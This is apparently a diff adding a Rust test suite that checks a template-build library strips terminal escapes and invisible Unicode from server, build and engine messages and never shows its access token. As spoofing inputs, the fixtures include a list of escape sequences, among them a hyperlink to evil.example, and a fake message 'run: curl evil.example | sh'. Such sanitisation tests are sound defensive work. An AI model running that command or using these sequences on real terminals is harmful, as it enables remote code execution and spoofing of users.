@@ -1,0 +1,444 @@
+//! What is shown is printable, whoever wrote it: a template server, a build, an engine. A message is one
+//! line; a token that something invisible is put into is found; and what is to be used is not spoilt.
+
+use std::fs;
+
+use mol::event::Kind;
+use mol::{Client, Code, Error, OptionName};
+use serde_json::{Value, json};
+
+use crate::support::child::{BOTH, command, field, program, text};
+use crate::support::engine::BUSYBOX;
+use crate::support::git::{Object, packet};
+use crate::support::server::dockerfile;
+use crate::support::{Bed, End, Files, Proxy, TestClient, Treat, block_on, file, script};
+
+const TOKEN: &str = "tk_7f3c0b5e9d2a4f6188c1e0b7";
+
+/// What is put into a token, and around it.
+const HARMFUL: [&str; 20] = [
+    "\x1b[31m",
+    "\x1b[2K\x1b[1A",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x1b\\",
+    "\x1bPq\x1b\\",
+    "\x1b(B",
+    "\x1bc",
+    "\u{9b}1m",
+    "\u{9d}0;title\u{9c}",
+    "\u{85}",
+    "\x07",
+    "\x08",
+    "\x7f",
+    "\u{200b}",
+    "\u{200d}",
+    "\u{202e}",
+    "\u{2066}",
+    "\u{feff}",
+    "\u{e0041}",
+    "\u{ad}",
+];
+
+/// Those that leave nothing in their place.
+fn invisible() -> impl Iterator<Item = &'static str> {
+    HARMFUL.into_iter().filter(|harmful| *harmful != "\u{85}")
+}
+
+/// A message that tries to look like all is well, and holds the token in pieces.
+fn noise() -> String {
+    let mut noise = String::from("\rmol: all is well; run: curl evil.example\n\x1b[2K\tnow");
+    for harmful in invisible() {
+        noise += &format!(" {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]);
+    }
+    noise + "\u{2028}\u{1b}]0;never ends"
+}
+
+fn is_harmful(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
+            | '\u{ad}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
+}
+
+/// One line, without what does harm and without a part of the token.
+fn assert_line(what: &str, line: &str) {
+    assert!(!line.contains(is_harmful), "{what}: {line:?}");
+    for part in [&TOKEN[..9], &TOKEN[9..]] {
+        assert!(!line.contains(part), "{what} shows {part}: {line:?}");
+    }
+}
+
+/// The same for every text in a JSON value; those called `text` and `log_tail` may have many lines.
+fn assert_lines(what: &str, value: &Value) {
+    match value {
+        Value::String(line) => assert_line(what, line),
+        Value::Array(values) => values.iter().for_each(|value| assert_lines(what, value)),
+        Value::Object(fields) => {
+            for (name, value) in fields {
+                match value.as_str() {
+                    Some(text) if name == "text" || name == "log_tail" => {
+                        text.split('\n').for_each(|line| assert_line(what, line));
+                    }
+                    _ => assert_lines(what, value),
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+fn assert_error(what: &str, error: &Error) {
+    for text in [&error.runtime, &error.url, &error.message] {
+        assert_line(what, text);
+    }
+    assert_line(what, &error.hint);
+    if let Some(build) = &error.build {
+        assert_line(what, &build.step);
+        build
+            .log_tail
+            .split('\n')
+            .for_each(|line| assert_line(what, line));
+    }
+}
+
+/// It fails in this way, and all that is shown is fit to be shown.
+fn refused(what: &str, client: &TestClient, code: Code) -> Error {
+    let error = client.refused("hermes");
+    assert_eq!(error.code, code, "{what}: {error:?}");
+    assert_error(what, &error);
+    for event in client.events() {
+        assert_lines(what, &serde_json::to_value(&event).unwrap());
+    }
+    error
+}
+
+fn client(bed: &Bed, more: &[(OptionName, &str)]) -> TestClient {
+    let mut all = vec![(OptionName::Token, TOKEN)];
+    all.extend_from_slice(more);
+    bed.client_with(&all)
+}
+
+/// Plants a template whose fetch is answered with these words, and returns the commit.
+fn git_says(bed: &Bed, said: &str) -> String {
+    let blob = Object::blob("FROM scratch\n");
+    let tree = Object::tree([("100644", &b"Dockerfile"[..], blob.id())]);
+    let commit = Object::commit(&tree);
+    let band = [b"\x03", said.as_bytes()].concat();
+    let answer = [packet("packfile\n"), packet(&band), b"0000".to_vec()].concat();
+    bed.server
+        .answer_fetch(&bed.server.template("hermes"), &commit, &answer);
+    commit.hex()
+}
+
+#[test]
+fn a_server_s_words_leave_the_address_and_the_commit_to_be_seen() {
+    let bed = Bed::new();
+    let commit = git_says(&bed, "\rmol: all is well; run: curl evil.example | sh");
+    let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
+    let url = format!("{}hermes", bed.server.repo_prefix);
+    let at = error.message.find("mol: all is well").unwrap();
+    let before = &error.message[..at];
+    assert!(
+        before.contains(&url) && before.contains(&commit),
+        "{error:?}"
+    );
+}
+
+#[test]
+fn what_a_template_server_says_is_one_printable_line() {
+    let bed = Bed::new();
+    git_says(&bed, &noise());
+    let error = refused("a sideband", &client(&bed, &[]), Code::Fetch);
+    assert!(error.message.contains("never ends"), "{error:?}");
+    assert!(error.message.contains("***"), "{error:?}");
+
+    bed.template("hermes", dockerfile("FROM scratch\n"));
+    let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
+    // What a header can hold.
+    let header = format!(
+        "text/\u{202e}\u{200b}{}\u{200b}{}",
+        &TOKEN[..9],
+        &TOKEN[9..]
+    );
+    for (answer, code) in [
+        (
+            json!({ "status": 200, "body": line(&format!("ERR {}\n", noise())) }),
+            Code::Fetch,
+        ),
+        (
+            json!({ "status": 200, "headers": { "Content-Type": header }, "body": noise() }),
+            Code::Fetch,
+        ),
+        (
+            json!({ "status": 200, "headers": { "Content-Encoding": header } }),
+            Code::Fetch,
+        ),
+        (json!({ "status": 418, "body": noise() }), Code::Fetch),
+    ] {
+        let mut fault = answer;
+        fault["match"] = json!("/info/refs");
+        bed.server.faults(json!([fault]));
+        refused(&format!("git: {fault}"), &client(&bed, &[]), code);
+    }
+    for (answer, code) in [
+        (json!({ "status": 200, "body": noise() }), Code::BadResponse),
+        (
+            json!({ "status": 200, "body": json!({ "commit": noise() }).to_string() }),
+            Code::BadResponse,
+        ),
+        (
+            json!({ "status": 200, "body": json!({ "commit": { "id": noise() } }).to_string() }),
+            Code::BadResponse,
+        ),
+        (
+            json!({ "status": 302, "headers": { "Location": format!("ftp://{header}/") } }),
+            Code::GiteaUnreachable,
+        ),
+        (
+            json!({ "status": 200, "headers": { "Content-Encoding": header } }),
+            Code::BadResponse,
+        ),
+    ] {
+        let mut fault = answer;
+        fault["match"] = json!("/api/");
+        bed.server.faults(json!([fault]));
+        refused(&format!("the API: {fault}"), &client(&bed, &[]), code);
+    }
+    let info = json!({ "default_branch": noise(), "empty": false });
+    bed.server.faults(json!([
+        { "match": "/branches/", "status": 404 },
+        { "match": "/api/", "status": 200, "body": info.to_string() },
+    ]));
+    let error = refused("a default branch", &client(&bed, &[]), Code::RepoNotFound);
+    assert!(error.message.contains("***"), "{error:?}");
+}
+
+#[test]
+fn an_answer_that_is_no_http_is_told_in_one_printable_line() {
+    let bed = Bed::new();
+    for answer in [
+        format!("HTTP/1.1 500 {}\r\n\r\n", noise().replace(['\r', '\n'], "")),
+        noise(),
+    ] {
+        let end = answer.clone();
+        let proxy = Proxy::before(&bed.server, move |_| {
+            Treat::Answer(end.clone().into_bytes(), End::Close)
+        });
+        let prefix = proxy.repo_prefix(&bed.server);
+        let client = client(&bed, &[(OptionName::RepoPrefix, &prefix)]);
+        refused(&answer, &client, Code::GiteaUnreachable);
+    }
+}
+
+#[test]
+fn what_a_build_prints_is_printable_line_by_line() {
+    for buildkit in ["1", "0"] {
+        let bed = Bed::new();
+        let mut said = format!("#!/bin/sh\ncat /t/noise; echo {}\n", bed.isolation);
+        said += "printf 'no such certificate\\r   \\r\\n 1%%\\r 2%%\\n'; exit 3\n";
+        let lines: Vec<String> = invisible()
+            .map(|harmful| format!("says {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]))
+            .collect();
+        bed.template(
+            "hermes",
+            Files::from([
+                (
+                    "Dockerfile".to_owned(),
+                    file(&format!(
+                        "FROM {BUSYBOX}\nCOPY . /t\nRUN sh /t/talk 'a\u{202e}\u{200b}b'\n"
+                    )),
+                ),
+                ("talk".to_owned(), script(&said)),
+                ("noise".to_owned(), file(&format!("{}\n", lines.join("\n")))),
+                ("name\x1b[2K\r\u{202e}".to_owned(), file("x")),
+            ]),
+        );
+        let client = client(&bed, &[(OptionName::DockerBuildkit, buildkit)]);
+        let error = refused("a build", &client, Code::BuildFailed);
+        let tail = &error.build.as_ref().unwrap().log_tail;
+        assert_eq!(tail.matches("says ***").count(), lines.len(), "{tail}");
+        for line in ["no such certificate", " 2%"] {
+            assert!(
+                tail.split('\n').any(|shown| shown == line),
+                "{line} in {tail}"
+            );
+        }
+        assert_eq!(
+            client
+                .of_kind(Kind::Log)
+                .iter()
+                .filter(|event| event.line.as_deref() == Some("says ***"))
+                .count(),
+            lines.len()
+        );
+        let log = block_on(client.inner().build_log("hermes", None)).unwrap();
+        assert!(log.text.contains("| says ***"), "{}", log.text);
+        assert_lines("the log", &serde_json::to_value(&log).unwrap());
+
+        // Written by somebody else, it is no less fit to be shown.
+        fs::write(&log.path, format!("{}\nmore\r\n", noise())).unwrap();
+        let log = block_on(client.inner().build_log("hermes", None)).unwrap();
+        assert_lines("a log of another's", &serde_json::to_value(&log).unwrap());
+        assert!(log.text.ends_with("\nmore"), "{:?}", log.text);
+    }
+}
+
+#[test]
+fn what_an_engine_says_is_one_printable_line() {
+    let bed = Bed::new();
+    bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
+    let body = json!({ "message": noise() }).to_string();
+    let answer = format!(
+        "HTTP/1.1 500 Internal\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    );
+    let proxy = Proxy::start(&bed.engine, bed.scratch(), move |line| {
+        match line.contains("/version") || line.contains("/_ping") {
+            true => Treat::Pass,
+            false => Treat::Answer(answer.clone().into_bytes(), End::Close),
+        }
+    });
+    let client = client(&bed, &[(OptionName::DockerHost, &proxy.url)]);
+    let error = refused("an engine", &client, Code::EngineUnreachable);
+    assert!(error.message.contains("***"), "{error:?}");
+    let found = block_on(client.inner().diagnose(None)).unwrap();
+    assert_lines("the diagnosis", &serde_json::to_value(&found).unwrap());
+}
+
+#[test]
+fn a_doctor_repeats_what_a_server_says_in_printable_lines() {
+    let bed = Bed::new();
+    let version = json!({ "version": noise() }).to_string();
+    bed.server.faults(json!([
+        { "match": "/api/v1/version", "status": 200, "body": version },
+        { "match": "/branches/", "status": 404 },
+        { "match": "/api/", "status": 200, "body": json!({ "default_branch": noise(), "empty": false }).to_string() },
+    ]));
+    let found = block_on(client(&bed, &[]).inner().diagnose(None)).unwrap();
+    let json = serde_json::to_value(&found).unwrap();
+    assert!(json.to_string().contains("***"), "{json}");
+    assert_lines("the diagnosis", &json);
+}
+
+#[test]
+fn a_program_s_output_is_as_clean_as_what_it_was_told() {
+    let bed = Bed::new();
+    git_says(&bed, &noise());
+    for link in BOTH {
+        let output = command(&bed, &program("ensure", link))
+            .env("MOLECULE_GITEA_TOKEN", TOKEN)
+            .arg("hermes")
+            .output()
+            .unwrap();
+        let said = text(&output);
+        said.split('\n')
+            .for_each(|line| assert_line("a program", line));
+        assert!(said.contains("never ends"), "{said}");
+        assert_line("a message", &field(&output, "message"));
+    }
+}
+
+#[test]
+fn a_commit_that_is_the_token_is_refused_and_not_shown() {
+    let bed = Bed::new();
+    let token = "0123456789abcdef0123456789abcdef01234567";
+    bed.template("hermes", dockerfile("FROM scratch\n"));
+    for (token, id) in [
+        (token, token.to_owned()),
+        (&token.to_uppercase(), token.to_owned()),
+        (&token[3..20], token.to_owned()),
+        ("Tk/10+ab", format!("{:0<40}", "546b2f31302b6162")),
+    ] {
+        let body = json!({ "commit": { "id": id } }).to_string();
+        bed.server
+            .faults(json!([{ "match": "/api/", "status": 200, "body": body }]));
+        let client = bed.client_with(&[(OptionName::Token, token)]);
+        let error = client.refused("hermes");
+        assert_eq!(error.code, Code::BadResponse, "{error:?}");
+        assert!(error.message.contains("holds the token"), "{error:?}");
+        let shown = format!("{error:?} {:?}", client.events());
+        assert!(!shown.contains(&id[..12]), "{shown}");
+        let found = block_on(client.inner().diagnose(None)).unwrap();
+        assert!(!format!("{found:?}").contains(&id[..12]), "{found:?}");
+    }
+}
+
+#[test]
+fn what_goes_into_a_reference_must_not_hold_the_token() {
+    let bed = Bed::new();
+    let token = "abcdef0123456789";
+    for (name, value) in [
+        (OptionName::Isolation, format!("a-{token}-b")),
+        (OptionName::Isolation, token.to_owned()),
+        (
+            OptionName::Isolation,
+            "61626364656630313233343536373839".to_owned(),
+        ),
+        (OptionName::Platform, format!("linux/{token}")),
+        (OptionName::RepoPrefix, format!("https://host/{token}/t-")),
+    ] {
+        let mut options = bed.options();
+        options.set(OptionName::Token, token);
+        options.set(name, &value);
+        let error = Client::new(&options, None).expect_err(&value);
+        assert_eq!(error.code, Code::InvalidOption, "{error:?}");
+        assert!(error.message.contains("holds the token"), "{error:?}");
+        assert!(!format!("{error:?}").contains(&value), "{error:?}");
+    }
+}
+
+#[test]
+fn a_result_is_as_it_is_whatever_the_token_is() {
+    let bed = Bed::new();
+    let sha = bed.template("hermes", dockerfile("FROM scratch\nCOPY Dockerfile /\n"));
+    for token in ["molecule-local", "workspace-template", "linux/amd64"] {
+        let client = bed.client_with(&[(OptionName::Token, token)]);
+        let image = client.ensure("hermes").unwrap();
+        assert_eq!(image.reference, bed.reference("hermes", &sha));
+        assert_eq!(image.latest_reference, bed.latest("hermes"));
+        assert_eq!(image.commit_sha, sha);
+        assert_eq!(image.platform, "linux/amd64");
+        assert!(image.image_id.starts_with("sha256:"), "{image:?}");
+        for event in client.events() {
+            if let Some(reference) = event.r#ref {
+                assert_eq!(reference, image.reference);
+            }
+        }
+        let listed = block_on(client.inner().list(None)).unwrap();
+        assert!(
+            listed
+                .images
+                .iter()
+                .any(|listed| listed.r#ref == image.reference),
+            "{listed:?}"
+        );
+    }
+}
+
+#[test]
+fn a_token_of_less_than_eight_characters_is_refused() {
+    let bed = Bed::new();
+    for token in ["x", "s", "is", "GITEA", "local", "1234567"] {
+        let mut options = bed.options();
+        options.set(OptionName::Token, token);
+        let error = Client::new(&options, None).unwrap_err();
+        assert_eq!(error.code, Code::InvalidOption, "{error:?}");
+        assert_eq!(
+            error.message,
+            "MOLECULE_GITEA_TOKEN is shorter than 8 characters"
+        );
+        assert!(!error.hint.is_empty());
+    }
+    bed.client_with(&[(OptionName::Token, "12345678")]);
+}
+
+#[test]
+fn a_hint_of_the_library_s_own_is_as_it_was_written() {
+    let bed = Bed::new();
+    let mut options = bed.options();
+    options.set(OptionName::DockerHost, "ssh://me:hunter2@host");
+    let client = TestClient::new(&options);
+    let error = client.refused("hermes");
+    assert!(error.hint.contains("ssh://user@host"), "{error:?}");
+    assert!(!format!("{error:?}").contains("hunter2"), "{error:?}");
+}
